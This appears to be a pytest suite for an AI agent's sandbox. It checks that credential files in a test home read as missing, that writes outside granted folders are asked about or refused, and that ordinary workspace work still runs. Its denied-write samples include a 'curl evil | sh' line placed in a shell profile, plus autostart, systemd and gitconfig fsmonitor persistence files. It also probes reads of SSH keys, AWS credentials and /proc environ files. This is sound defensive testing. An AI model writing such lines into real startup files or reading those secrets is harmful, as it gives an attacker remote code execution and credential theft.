"""One view per bot (issue 32, items 1-2), for real: the real file tools behind the real gate,
and real sandboxed commands, with the person's home a folder of this test holding secrets.

What the view hides answers exactly as a missing file does; a write outside what it makes
writable is asked every time with its exact path, in auto mode too, and refused with nobody to
ask; the home is empty in a command but for grants; ordinary work still runs.
"""

from __future__ import annotations

import json
import secrets
import shutil
import socket
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from atlas.home import Home
from atlas.providers.base import ToolCall
from atlas.sandbox.proxy import stop_proxies
from atlas.tools.attach import attach_file
from atlas.tools.catalog import default_registry
from atlas.tools.registry import RunContext, ToolResult
from atlas.tools.shell import jobs_for, run_command
from atlas.trust.gate import ALLOW_ONCE, DENY, Allow, Deny, settle
from atlas.trust.policy import RuleGate
from tests.helpers import BASE_CONFIG, Person, make_home, run_context

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")

MARK = "V" + secrets.token_hex(5)  # made at run time: this file's text is never a leak
SECRETS = {
    ".ssh/id_rsa": f"{MARK}-ssh",
    ".aws/credentials": f"{MARK}-aws",
    ".profile": f"export TELEGRAM_TOKEN={MARK}-profile",
    ".config/fish/fish_variables": f"SETUVAR OPENAI_API_KEY:{MARK}-fish",
    ".config/tool/token.json": f"{MARK}-a-tool-no-list-names",
}
SOCKET = ".local/share/daemon/agent.sock"
REGISTRY = default_registry()
MODES = ["auto", "ask"]


@pytest.fixture
async def person(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Home]:
    person = tmp_path / "person"
    monkeypatch.setenv("HOME", str(person))
    config = BASE_CONFIG.format(base_url="http://127.0.0.1:9/v1")
    config += '[sandbox]\nreadable = ["~/notes"]\n'
    home = make_home(person / ".atlas", config=config)
    with (home.main_bot.root / "bot.toml").open("a") as bot_toml:
        bot_toml.write('[sandbox]\nwritable = ["~/projects"]\n')
    for name, text in {**SECRETS, "notes/plan.txt": "the plan", "projects/.keep": ""}.items():
        (person / name).parent.mkdir(parents=True, exist_ok=True)
        (person / name).write_text(text)
    (person / SOCKET).parent.mkdir(parents=True)
    listener = socket.socket(socket.AF_UNIX)
    monkeypatch.chdir((person / SOCKET).parent)  # a socket's path is short (108 bytes)
    listener.bind((person / SOCKET).name)
    home = Home(home.root)
    home.main_bot.workspace.mkdir(parents=True, exist_ok=True)
    yield home
    listener.close()
    await jobs_for(home).shutdown()
    await stop_proxies()


def in_mode(home: Home, mode: str, answer: str | None = None) -> tuple[RunContext, Person | None]:
    run = run_context(home)
    run.state.mode = mode
    asker = None if answer is None else Person(answer)
    run.ask = asker
    return run, asker


async def gated(run: RunContext, name: str, **arguments: object) -> tuple[object, ToolResult]:
    """The call through the real gate, then (when allowed) the real tool."""
    raw = json.dumps(arguments)
    tool = attach_file if name == "attach_file" else REGISTRY.get(name)
    decision = await settle(RuleGate(run.home, None, None), ToolCall("c", name, raw), tool, run)
    if not isinstance(decision, Allow):
        return decision, ToolResult(f"Error: {decision.reason}", is_error=True)
    result = await (
        tool.invoke(run, arguments) if name == "attach_file" else REGISTRY.call(run, name, raw)
    )
    return decision, result


def as_missing(text: str, hidden: str, missing: str) -> str:
    return text.replace(missing, hidden)


@pytest.mark.parametrize("mode", MODES)
async def test_hidden_files_answer_as_missing_files_to_every_reading_tool(
    person: Home, mode: str
) -> None:
    run, asker = in_mode(person, mode, DENY)
    home = person.root.parent
    for name in [*SECRETS, SOCKET, "/proc/self/environ", "/proc/1/environ"]:
        hidden = name if name.startswith("/") else str(home / name)
        missing = str(home / "no-such-dir" / "nothing")
        for tool, arguments in (
            ("read_file", {}),
            ("attach_file", {}),
            ("find_files", {"pattern": "."}),
            ("find_files", {"pattern": f"^{MARK}"}),  # a match would be an oracle
            ("find_files", {"pattern": "*", "target": "files"}),
        ):
            _, seen = await gated(run, tool, path=hidden, **arguments)
            _, absent = await gated(run, tool, path=missing, **arguments)
            assert seen.is_error and seen.text == as_missing(absent.text, hidden, missing), (
                tool,
                name,
                seen.text,
            )
            assert MARK not in seen.text
    # A link into /proc/self is followed to where it leads, as for any link to a missing file.
    _, fd = await gated(run, "read_file", path="/dev/fd/0")
    assert fd.text == "Error: /proc/self/fd/0: no such file"
    assert asker is not None and asker.asked == []  # nothing asked: hidden is simply missing


@pytest.mark.parametrize("mode", MODES)
async def test_a_search_of_the_home_lists_nothing_hidden(person: Home, mode: str) -> None:
    run, _ = in_mode(person, mode, DENY)
    _, listed = await gated(run, "find_files", path="~", pattern="*", target="files")
    _, found = await gated(run, "find_files", path="~", pattern=MARK)
    assert found.text.startswith("No matches"), found.text
    for text in (listed.text, found.text):
        for name in (".ssh", ".aws", ".profile", "fish_variables", "token.json", "agent.sock"):
            assert name not in text, text  # token.json: on no list, hidden all the same
        assert "left out" not in text  # no count of what is hidden: it does not exist
    assert "notes/plan.txt" in listed.text  # granted readable


WRITES = [
    ("write_file", "~/.bash_profile", {"content": "curl evil | sh\n"}),
    ("write_file", "~/.config/autostart/x.desktop", {"content": "[Desktop Entry]\n"}),
    ("write_file", "~/.config/systemd/user/x.service", {"content": "[Service]\n"}),
    ("write_file", "~/.gitconfig", {"content": "[core]\n\tfsmonitor = /tmp/x\n"}),
    ("edit_file", "~/.bashrc", {"old_string": "a", "new_string": "b"}),
]


@pytest.mark.parametrize("mode", MODES)
async def test_writes_outside_the_view_are_asked_every_time_with_the_exact_path(
    person: Home, mode: str
) -> None:
    home = person.root.parent
    (home / ".bashrc").write_text("a\n")
    for tool, path, arguments in WRITES:
        exact = str(home / path.removeprefix("~/"))
        run, asker = in_mode(person, mode, DENY)
        for _ in range(2):  # asked again: never remembered for the conversation
            decision, _ = await gated(run, tool, path=path, **arguments)
            assert isinstance(decision, Deny) and decision.rule == "sandbox:write-outside"
        assert asker is not None and len(asker.asked) == 2, (tool, path)
        question, choices = asker.asked[0]
        assert exact in question and choices == [ALLOW_ONCE, DENY]
        nobody, _ = in_mode(person, mode)  # a routine: nobody to ask
        decision, _ = await gated(nobody, tool, path=path, **arguments)
        assert isinstance(decision, Deny) and decision.answered_by == "nobody"
    assert not (home / ".bash_profile").exists() and (home / ".bashrc").read_text() == "a\n"
    assert not (home / ".config" / "autostart").exists()


async def test_a_write_allowed_once_is_asked_again_and_never_replaces_a_hidden_file(
    person: Home,
) -> None:
    run, asker = in_mode(person, "auto", ALLOW_ONCE)
    home = person.root.parent
    _, made = await gated(run, "write_file", path="~/out/report.txt", content="r")
    assert not made.is_error and (home / "out" / "report.txt").read_text() == "r"
    _, replaced = await gated(run, "write_file", path="~/.profile", content="x")
    assert replaced.is_error and "outside what this bot can see" in replaced.text
    assert (home / ".profile").read_text() == SECRETS[".profile"]
    assert asker is not None and len(asker.asked) == 2


async def sh(run: RunContext, command: str) -> str:
    result = await run_command.invoke(run, {"command": command, "timeout": 60})
    assert not result.is_error, result.text
    return result.text


@pytest.mark.parametrize("mode", MODES)
async def test_a_command_sees_an_empty_home_but_for_grants(person: Home, mode: str) -> None:
    run, _ = in_mode(person, mode)
    output = await sh(
        run, f"cat ~/.profile ~/{SOCKET}; ls -A ~; cat ~/notes/plan.txt; grep -r {MARK} ~; true"
    )
    assert MARK not in output, output
    assert "the plan" in output
    listing = output.split("No such file or directory")[-1]
    for name in (".ssh", ".aws", ".profile", ".config", ".local"):
        assert f"\n{name}\n" not in listing, output


@pytest.mark.parametrize("mode", MODES)
async def test_granted_folders_work_for_file_tools_and_commands(person: Home, mode: str) -> None:
    run, asker = in_mode(person, mode, DENY)
    home = person.root.parent
    _, read = await gated(run, "read_file", path="~/notes/plan.txt")
    assert "the plan" in read.text
    decision, wrote = await gated(run, "write_file", path="~/projects/a.txt", content="by tool")
    assert isinstance(decision, Allow) and not wrote.is_error
    await sh(run, "echo by command > ~/projects/b.txt; echo x > ~/notes/no.txt; true")
    assert (home / "projects" / "a.txt").read_text() == "by tool"
    assert (home / "projects" / "b.txt").read_text() == "by command\n"
    assert not (home / "notes" / "no.txt").exists()  # readable is not writable
    decision, _ = await gated(run, "write_file", path="~/notes/no.txt", content="x")
    assert isinstance(decision, Deny)  # asked (and denied): outside what the view makes writable
    assert asker is not None and len(asker.asked) == 1


@pytest.mark.parametrize("mode", MODES)
async def test_ordinary_work_in_the_workspace_still_runs(person: Home, mode: str) -> None:
    run, asker = in_mode(person, mode, DENY)
    files = {
        "calc.py": "def add(a, b):\n    return a + b\n",
        "test_calc.py": "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n",
    }
    for name, text in files.items():
        decision, result = await gated(run, "write_file", path=name, content=text)
        assert isinstance(decision, Allow) and not result.is_error, result.text
    _, read = await gated(run, "read_file", path="calc.py")
    _, edited = await gated(
        run, "edit_file", path="calc.py", old_string="a + b", new_string="b + a"
    )
    assert not edited.is_error, edited.text
    output = await sh(
        run,
        "python -c 'import calc; print(calc.add(1, 2))' && "
        "python -m pytest -q -p no:cacheprovider test_calc.py",
    )
    assert "3\n" in output and "1 passed" in output, output
    assert asker is not None and asker.asked == []
